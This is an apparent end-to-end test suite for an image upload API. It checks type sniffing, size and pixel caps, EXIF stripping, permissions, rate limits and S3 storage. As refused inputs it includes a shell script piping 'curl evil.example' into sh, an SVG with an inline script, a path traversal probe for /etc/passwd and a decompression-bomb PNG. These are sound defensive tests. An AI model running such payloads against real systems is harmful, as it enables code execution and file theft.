/**
 * Uploads end to end: a real server over real Postgres and Redis, bytes sent over HTTP by the
 * typed client's `uploadImage` (or raw, where the test needs control of the body), stored on local
 * disk and in a real S3-compatible server (s3rver), read back through GET /media/… and decoded
 * with sharp. Every refusal is a typed error that leaves no row and no stored object.
 */
import { createClient, isApiError, uploadImage, type ImageBytes } from "@deltacrown/client";
import { demoGames } from "@deltacrown/domain";
import { installOpenHandleCheck, useTestServices } from "@deltacrown/test-harness";
import { GetObjectCommand, ListObjectsV2Command, S3Client } from "@aws-sdk/client-s3";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Platform } from "../src/platform.ts";
import { startTestPlatform } from "./platform.support.ts";
import { bombPng, filesUnder, jpegWithGps, png, startS3, streamUpload, tempDir } from "./uploads.support.ts";

installOpenHandleCheck();

const MB = 1024 * 1024;

/** The typed error of a call that must fail, or a failed test. */
async function refusal(call: Promise<unknown>) {
  const error = await call.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!isApiError(error)) throw new Error(`expected an API error, got ${String(error)}`);
  return error;
}

describe("uploads (local disk storage)", () => {
  const services = useTestServices();
  let platform: Platform;
  let storage: { dir: string; remove: () => Promise<void> };
  let n = 0;

  beforeAll(async () => {
    await services.db.insertInto("games").values(demoGames).execute();
    storage = await tempDir("dc-uploads-");
    platform = await startTestPlatform(services, { storage: { driver: "local", directory: storage.dir } });
  });
  afterAll(async () => {
    await platform?.close();
    await storage?.remove();
  });

  async function user(prefix: string) {
    const username = `${prefix}${++n}`;
    const { token } = await createClient({ url: platform.url }).identity.signUp.mutate({
      username,
      email: `${username}@dc.gg`,
      password: "long-enough-pw",
    });
    return { username, token, client: createClient({ url: platform.url, token }) };
  }
  const upload = (token: string, bytes: ImageBytes) => uploadImage({ url: platform.url, token }, bytes);
  const uploadRows = async () =>
    Number(
      (
        await services.db
          .selectFrom("uploads")
          .select((eb) => eb.fn.countAll().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );

  /** Nothing written: no row, no file. */
  async function expectNothingWritten(before: { rows: number; files: number }) {
    expect(await uploadRows()).toBe(before.rows);
    expect((await filesUnder(storage.dir)).length).toBe(before.files);
  }
  const state = async () => ({ rows: await uploadRows(), files: (await filesUnder(storage.dir)).length });

  it("accepts a PNG sent as 'photo.jpg' as a PNG (type from the bytes), served with long-lived immutable headers", async () => {
    const alice = await user("alice");
    const bytes = await png(300, 200);
    // Raw, to send a lying name and content type: neither is read.
    const response = await fetch(`${platform.url}/uploads`, {
      method: "POST",
      body: bytes,
      headers: { authorization: `Bearer ${alice.token}`, "content-type": "image/jpeg", "x-filename": "photo.jpg" },
    });
    expect(response.status).toBe(201);
    const stored = (await response.json()) as {
      id: string;
      contentType: string;
      url: string;
      thumbnailUrl: string;
      width: number;
      height: number;
    };
    expect(stored).toMatchObject({ contentType: "image/png", width: 300, height: 200 });
    expect(stored.id).toMatch(/^[0-9a-f-]{36}$/);
    expect(stored.url).toMatch(/^\/media\/[0-9a-f]{64}\.png$/);

    const served = await fetch(`${platform.url}${stored.url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("image/png");
    expect(served.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.headers.get("content-security-policy")).toContain("default-src 'none'");
    const etag = served.headers.get("etag");
    const image = Buffer.from(await served.arrayBuffer());
    expect((await sharp(image).metadata()).format).toBe("png");
    // The name is the content's hash.
    const { createHash } = await import("node:crypto");
    expect(stored.url).toContain(createHash("sha256").update(image).digest("hex"));
    expect((await fetch(`${platform.url}${stored.url}`, { headers: { "if-none-match": etag ?? "" } })).status).toBe(
      304,
    );
    const thumb = await fetch(`${platform.url}${stored.thumbnailUrl}`);
    expect(thumb.headers.get("content-type")).toBe("image/webp");
    expect((await sharp(Buffer.from(await thumb.arrayBuffer())).metadata()).width).toBeLessThanOrEqual(320);
    expect((await fetch(`${platform.url}/media/..%2f..%2fetc%2fpasswd`)).status).toBe(404);
    expect((await fetch(`${platform.url}/media/${"0".repeat(64)}.png`)).status).toBe(404);

    // The typed read of the same upload; another user cannot read it.
    expect(await alice.client.uploads.byId.query({ uploadId: stored.id })).toEqual({
      ...stored,
      createdAt: expect.any(String),
    });
    const bob = await user("bob");
    expect((await refusal(bob.client.uploads.byId.query({ uploadId: stored.id }))).data?.code).toBe("NOT_FOUND");
  });

  it("refuses a script named 'avatar.png' (FILE_TYPE_REFUSED, 415) and writes nothing", async () => {
    const carl = await user("carl");
    const before = await state();
    const e = await refusal(upload(carl.token, Buffer.from("#!/bin/sh\ncurl evil.example | sh\n")));
    expect(e.data).toMatchObject({
      code: "UNSUPPORTED_MEDIA_TYPE",
      httpStatus: 415,
      reason: "FILE_TYPE_REFUSED",
      fieldErrors: { file: [expect.any(String)] },
    });
    // An SVG (XML, scripts inside) is not an accepted type either.
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect((await refusal(upload(carl.token, svg))).data?.reason).toBe("FILE_TYPE_REFUSED");
    // PNG magic and garbage after it: the type matches, the decode does not.
    const broken = Buffer.concat([(await png(10, 10)).subarray(0, 40), Buffer.alloc(200, 7)]);
    expect((await refusal(upload(carl.token, broken))).data?.reason).toBe("IMAGE_INVALID");
    await expectNothingWritten(before);
  });

  it("refuses a 6 MB file before reading it all: a declared length at once, a chunked body at the cap", async () => {
    const dana = await user("dana");
    const before = await state();
    const declared = await streamUpload(`${platform.url}/uploads`, dana.token, 6 * MB, true);
    expect(declared.status).toBe(413);
    expect(JSON.parse(declared.body)).toMatchObject({
      error: { data: { code: "PAYLOAD_TOO_LARGE", reason: "FILE_TOO_LARGE" } },
    });
    expect(declared.headers.connection).toBe("close");
    // Answered from the header: far less than the body was sent (socket buffers only).
    expect(declared.sentWhenAnswered).toBeLessThan(6 * MB);

    const chunked = await streamUpload(`${platform.url}/uploads`, dana.token, 6 * MB, false);
    expect(chunked.status).toBe(413);
    expect(JSON.parse(chunked.body)).toMatchObject({ error: { data: { reason: "FILE_TOO_LARGE" } } });
    // Over loopback the kernel's socket buffers take a megabyte or more unread, so the 6 MB were
    // all "sent" anyway; a 64 MB body shows the server stops reading at the cap: it answers while
    // most of the body is still unsent (a server that buffered the body would read all 64 MB first).
    const huge = await streamUpload(`${platform.url}/uploads`, dana.token, 64 * MB, false);
    expect(huge.status).toBe(413);
    expect(huge.sentWhenAnswered).toBeLessThan(32 * MB);
    await expectNothingWritten(before);
  });

  it("refuses a 20,000 × 20,000 image (a 50 kB decompression bomb) without decoding it", async () => {
    const erin = await user("erin");
    const before = await state();
    const bomb = bombPng(20_000);
    expect(bomb.length).toBeLessThan(200_000);
    const started = performance.now();
    const e = await refusal(upload(erin.token, bomb));
    expect(e.data).toMatchObject({ code: "BAD_REQUEST", reason: "IMAGE_TOO_LARGE" });
    expect(e.message).toContain("20000 × 20000");
    // Refused from the header: decoding 400 Mpx would take many seconds and ~1.6 GB.
    expect(performance.now() - started).toBeLessThan(5_000);
    // Within 8,000 a side but over the pixel cap (48 Mpx > 40 Mpx).
    const wide = await refusal(upload(erin.token, bombPng(8_000, 6_000)));
    expect(wide.data?.reason).toBe("IMAGE_TOO_LARGE");
    await expectNothingWritten(before);
  });

  it("strips EXIF and GPS: the stored bytes carry no metadata", async () => {
    const fay = await user("fay");
    const original = await jpegWithGps();
    const meta = await sharp(original).metadata();
    expect(meta.exif).toBeDefined();
    expect(
      meta.exif!.includes(Buffer.from("GPS")) ||
        meta.exif!.includes(Buffer.from([0x88, 0x25])) ||
        meta.exif!.includes(Buffer.from([0x25, 0x88])),
    ).toBe(true);
    const stored = await upload(fay.token, original);
    expect(stored.contentType).toBe("image/jpeg");
    const bytes = Buffer.from(await (await fetch(`${platform.url}${stored.url}`)).arrayBuffer());
    const after = await sharp(bytes).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(bytes.includes(Buffer.from("Snapper 9"))).toBe(false);
  });

  it("sets a team's logo and banner (managers only), shown by the cached team page, invalidated on change", async () => {
    const owner = await user("owner");
    const manager = await user("manager");
    const player = await user("player");
    const team = await owner.client.teams.create.mutate({ name: `Pixel Crew ${n}`, gameSlug: "valorant" });
    for (const [member, role] of [
      [manager, "manager"],
      [player, "player"],
    ] as const) {
      const invite = await owner.client.invites.send.mutate({ teamSlug: team.slug, username: member.username, role });
      await member.client.invites.accept.mutate({ inviteId: invite.id });
    }
    const anon = createClient({ url: platform.url });
    // The page is read (and cached) before the change.
    expect(await anon.teams.bySlug.query({ slug: team.slug })).toMatchObject({ logoUrl: null, bannerUrl: null });

    // A player may not; nothing changes (and the page stays as it was).
    const playersLogo = await upload(player.token, await png(64, 64));
    const refused = await refusal(
      player.client.teams.setImages.mutate({ slug: team.slug, logoUploadId: playersLogo.id }),
    );
    expect(refused.data).toMatchObject({ code: "FORBIDDEN", reason: "FORBIDDEN" });
    const row = await services.db
      .selectFrom("teams")
      .select(["logo_upload_id", "banner_upload_id"])
      .where("slug", "=", team.slug)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ logo_upload_id: null, banner_upload_id: null });

    // A manager may, with their own uploads only.
    const notMine = await refusal(
      manager.client.teams.setImages.mutate({ slug: team.slug, logoUploadId: playersLogo.id }),
    );
    expect(notMine.data).toMatchObject({ code: "NOT_FOUND", fieldErrors: { logoUploadId: [expect.any(String)] } });
    const logo = await upload(manager.token, await png(128, 128));
    const banner = await upload(manager.token, await png(1200, 300));
    await manager.client.teams.setImages.mutate({ slug: team.slug, logoUploadId: logo.id, bannerUploadId: banner.id });
    expect(await anon.teams.bySlug.query({ slug: team.slug })).toMatchObject({
      logoUrl: logo.url,
      bannerUrl: banner.url,
    });

    // Removing the banner invalidates the cached page again.
    await owner.client.teams.setImages.mutate({ slug: team.slug, bannerUploadId: null });
    expect(await anon.teams.bySlug.query({ slug: team.slug })).toMatchObject({ logoUrl: logo.url, bannerUrl: null });

    // A bad id is a typed 400 at its field, before anything runs.
    const bad = await refusal(owner.client.teams.setImages.mutate({ slug: team.slug, logoUploadId: "not-a-uuid" }));
    expect(bad.data).toMatchObject({ code: "BAD_REQUEST", fieldErrors: { logoUploadId: [expect.any(String)] } });
  });

  it("shows a post's images and a sponsor's logo to strangers and anonymous callers; the URLs serve the bytes", async () => {
    const owner = await user("poster");
    const stranger = await user("stranger");
    const anon = createClient({ url: platform.url });
    const team = await owner.client.teams.create.mutate({ name: `Gallery Crew ${n}`, gameSlug: "valorant" });
    const photo = await upload(owner.token, await png(200, 100));
    const logo = await upload(owner.token, await png(96, 96));
    const post = await owner.client.posts.create.mutate({ teamSlug: team.slug, body: "look", imageIds: [photo.id] });
    await owner.client.posts.pin.mutate({ teamSlug: team.slug, postId: post.id });
    const day = 24 * 3600 * 1000;
    const sponsor = await owner.client.sponsors.propose.mutate({
      teamSlug: team.slug,
      name: "Pixels Ltd",
      linkUrl: "https://pixels.example",
      logoUploadId: logo.id,
      startsAt: new Date(Date.now() - day),
      endsAt: new Date(Date.now() + day),
    });
    await owner.client.sponsors.approve.mutate({ sponsorId: sponsor.id });

    const image = { url: photo.url, thumbnailUrl: photo.thumbnailUrl, width: 200, height: 100 };
    const logoImage = { url: logo.url, thumbnailUrl: logo.thumbnailUrl, width: 96, height: 96 };
    expect(post.images).toEqual([image]);
    for (const viewer of [anon, stranger.client]) {
      expect((await viewer.posts.teamFeed.query({ teamSlug: team.slug, limit: 5 })).items[0]?.images).toEqual([image]);
      const page = await viewer.teams.bySlug.query({ slug: team.slug });
      expect(page.pinnedPost?.images).toEqual([image]);
      expect(page.sponsors.map((s) => s.logo)).toEqual([logoImage]);
    }
    await stranger.client.follows.follow.mutate({ teamSlug: team.slug });
    expect((await stranger.client.posts.homeFeed.query({ limit: 5 })).items[0]?.images).toEqual([image]);
    // uploads.byId stays the uploader's own (ids are not for browsing); the URLs are public.
    expect((await refusal(stranger.client.uploads.byId.query({ uploadId: photo.id }))).data).toMatchObject({
      code: "NOT_FOUND",
    });
    for (const [url, width] of [
      [image.url, 200],
      [image.thumbnailUrl, undefined],
      [logoImage.url, 96],
    ] as const) {
      const response = await fetch(`${platform.url}${url}`);
      expect(response.status).toBe(200);
      const meta = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
      if (width !== undefined) expect(meta.width).toBe(width);
      else expect(meta.width).toBeGreaterThan(0);
    }
  });

  it("refuses an upload without a session (401) and writes nothing", async () => {
    const before = await state();
    const e = await refusal(uploadImage({ url: platform.url }, await png(20, 20)));
    expect(e.data).toMatchObject({ code: "UNAUTHORIZED", httpStatus: 401 });
    await expectNothingWritten(before);
  });
});

describe("uploads: the per-account limit", () => {
  const services = useTestServices();

  it("refuses the upload over RATE_LIMIT_UPLOADS with 429, RATE_LIMITED and Retry-After", async () => {
    await services.db.insertInto("games").values(demoGames).execute();
    const storage = await tempDir("dc-uploads-limit-");
    const { defaultLimits } = await import("@deltacrown/api");
    const platform = await startTestPlatform(services, {
      storage: { driver: "local", directory: storage.dir },
      limits: {
        ...defaultLimits,
        signUp: { points: 100, durationSeconds: 3600, blockSeconds: 0 },
        uploads: { points: 2, durationSeconds: 3600, blockSeconds: 0 },
      },
    });
    try {
      const { token } = await createClient({ url: platform.url }).identity.signUp.mutate({
        username: "limited",
        email: "limited@dc.gg",
        password: "long-enough-pw",
      });
      const bytes = await png(16, 16);
      await uploadImage({ url: platform.url, token }, bytes);
      await uploadImage({ url: platform.url, token }, bytes);
      const e = await refusal(uploadImage({ url: platform.url, token }, bytes));
      expect(e.data).toMatchObject({ code: "TOO_MANY_REQUESTS", reason: "RATE_LIMITED" });
      expect(e.data?.retryAfter).toBeGreaterThan(0);
    } finally {
      await platform.close();
      await storage.remove();
    }
  });
});

describe("uploads (S3-compatible storage: a real s3rver)", () => {
  const services = useTestServices();
  const bucket = "dc-uploads";

  it("stores the image and thumbnail in the bucket, serves them, and writes nothing for a refused file", async () => {
    await services.db.insertInto("games").values(demoGames).execute();
    const s3 = await startS3(bucket);
    const platform = await startTestPlatform(services, {
      storage: {
        driver: "s3",
        bucket,
        region: "us-east-1",
        endpoint: s3.endpoint,
        forcePathStyle: true,
        ...s3.credentials,
        prefix: "media/",
      },
    });
    const client = new S3Client({
      region: "us-east-1",
      endpoint: s3.endpoint,
      forcePathStyle: true,
      credentials: s3.credentials,
    });
    const objects = async () =>
      (await client.send(new ListObjectsV2Command({ Bucket: bucket }))).Contents?.map((o) => o.Key) ?? [];
    try {
      const { token } = await createClient({ url: platform.url }).identity.signUp.mutate({
        username: "s3user",
        email: "s3user@dc.gg",
        password: "long-enough-pw",
      });
      expect(await objects()).toEqual([]);
      const refused = await refusal(uploadImage({ url: platform.url, token }, Buffer.from("MZ not an image at all")));
      expect(refused.data?.reason).toBe("FILE_TYPE_REFUSED");
      expect(await objects()).toEqual([]);

      const stored = await uploadImage({ url: platform.url, token }, await jpegWithGps());
      const key = stored.url.slice("/media/".length);
      expect((await objects()).sort()).toEqual(
        [`media/${key}`, `media/${stored.thumbnailUrl.slice("/media/".length)}`].sort(),
      );
      const object = await client.send(new GetObjectCommand({ Bucket: bucket, Key: `media/${key}` }));
      expect(object.ContentType).toBe("image/jpeg");
      const inBucket = Buffer.from(await object.Body!.transformToByteArray());
      expect((await sharp(inBucket).metadata()).exif).toBeUndefined();

      const served = await fetch(`${platform.url}${stored.url}`);
      expect(served.status).toBe(200);
      expect(served.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
      expect(Buffer.from(await served.arrayBuffer()).equals(inBucket)).toBe(true);
      expect((await fetch(`${platform.url}/media/${"a".repeat(64)}.jpg`)).status).toBe(404);
    } finally {
      client.destroy();
      await platform.close();
      await s3.close();
    }
  });
});
